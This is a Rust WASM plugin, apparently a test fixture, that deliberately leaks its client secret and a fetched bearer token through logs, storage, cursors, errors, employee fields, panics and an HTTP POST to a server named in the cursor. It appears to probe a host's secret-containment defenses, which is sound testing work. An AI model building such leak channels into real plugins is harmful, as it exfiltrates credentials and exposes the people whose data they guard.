//! A plugin that tells all that it knows of its secret, the answer of the source
//! included, in the way that the cursor says; and, if it says so, of a token.

#![cfg(target_family = "wasm")]

use plugin_kit::http::Answer;
use plugin_kit::types::{
    Connection, Employee, EmployeeFields, EmployeePage, EmployeeQuery, Error, ErrorKind,
    RejectedRecord, Secret,
};
use plugin_kit::{Plugin, employee, http, page, report, store};

struct Tattler;

impl Plugin for Tattler {
    fn connect(secrets: Vec<Secret>, fields: EmployeeFields) -> Result<Connection, Error> {
        let known = secrets.first().map(|secret| secret.value.clone()).unwrap_or_default();
        keep("stand-in", &known)?;
        let excess = vec![ask(&known)?];
        Ok(Connection { readable: fields, excess })
    }

    fn fetch_employees(query: EmployeeQuery) -> Result<EmployeePage, Error> {
        let bucket = store::open("").map_err(|error| report(error.to_string()))?;
        let stand_in = bucket.get("stand-in").map_err(|error| report(error.to_string()))?;
        let stand_in = String::from_utf8_lossy(&stand_in.unwrap_or_default()).into_owned();
        if query.cursor.as_deref() == Some("token") {
            return Err(tell_token(&stand_in)?);
        }
        let known = ask(&stand_in)?;
        let query_cursor = query.cursor.unwrap_or_default();
        match query_cursor.as_str() {
            "log" => eprintln!("{known}"),
            "storage" => keep("known", &known)?,
            "storage-key" => keep(&known.chars().take(200).collect::<String>(), "known")?,
            "cursor" => return Ok(EmployeePage { next: Some(known), ..page(Vec::new()) }),
            "error" => return Err(report(known)),
            "code" => {
                let kind = ErrorKind::Internal;
                let message = "see the code".to_owned();
                return Err(Error { kind, code: Some(known), message, retry_after_ms: None });
            }
            "field" => {
                return Ok(page(vec![Employee { email: Some(known.clone()), ..employee(&known) }]));
            }
            "rejected" => {
                let rejected = vec![RejectedRecord { id: Some(known.clone()), reason: known }];
                return Ok(EmployeePage { rejected, ..page(Vec::new()) });
            }
            "panic" => return Err(die(&known)),
            // The address of another server.
            url => {
                let sent = http::send("POST", &format!("{url}/{}", known.len()), &[], &known);
                return Err(report(sent.map_or_else(|error| error, |answer| answer.to_string())));
            }
        }
        Ok(page(Vec::new()))
    }
}

/// All that the source answers to one who shows it the secret, and the stand-in.
fn ask(stand_in: &str) -> Result<String, Error> {
    let answer = authenticate(stand_in)?;
    Ok(format!("{stand_in} {:?} {}", answer.headers, answer.body))
}

fn authenticate(stand_in: &str) -> Result<Answer, Error> {
    let body = format!("{{\"client_secret\":\"{stand_in}\"}}");
    let json = [("content-type", "application/json")];
    http::send("POST", &plugin_kit::url("/auth"), &json, &body).map_err(report)
}

/// Uses the token that the source hands out, and tells it to the log and in an error.
fn tell_token(stand_in: &str) -> Result<Error, Error> {
    let token = authenticate(stand_in)?.body;
    let bearer = format!("Bearer {token}");
    let url = plugin_kit::url("/people?attributes[]=email");
    http::send("GET", &url, &[("authorization", &bearer)], "").map_err(report)?;
    eprintln!("the token is {token}");
    Ok(report(format!("the token is {token}")))
}

fn keep(key: &str, value: &str) -> Result<(), Error> {
    let bucket = store::open("").map_err(|error| report(error.to_string()))?;
    bucket.set(key, value.as_bytes()).map_err(|error| report(error.to_string()))
}

#[allow(clippy::panic, reason = "last words are one more way to tell")]
fn die(known: &str) -> Error {
    panic!("{known}")
}

plugin_kit::plugin!(Tattler);
